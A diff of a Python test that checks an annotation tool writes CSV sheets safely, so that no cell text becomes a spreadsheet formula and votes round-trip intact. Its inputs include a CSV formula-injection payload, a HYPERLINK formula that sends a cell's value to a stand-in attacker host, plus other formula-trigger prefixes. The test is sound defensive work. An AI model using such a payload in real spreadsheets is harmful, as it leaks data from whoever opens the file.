@@ -187,7 +187,14 @@ def test_a_wrong_cell_and_a_wrong_voter_are_named_and_nothing_is_taken(study: Hu
 
 
 def test_no_text_in_a_sheet_is_a_formula_and_the_votes_come_back(home: Path, tmp_path: Path) -> None:
-    texts = ['=HYPERLINK("http://evil.example?" & A1, "more")', "- first\n- second", "+1", "@SUM(A1)", "\t=1"]
+    texts = [
+        '=HYPERLINK("http://evil.example?" & A1, "more")',
+        "- first\n- second",
+        "+1",
+        "@SUM(A1)",
+        "\t=1",
+        "-" * 200_000,
+    ]
     items = [Item(item=str(n), instruction=said, input=said, a=said, b=f"{said}!") for n, said in enumerate(texts)]
     study, path = new_study("a", "b", items, 0), tmp_path / "ann.csv"
     write_sheet(study, "ann", path)
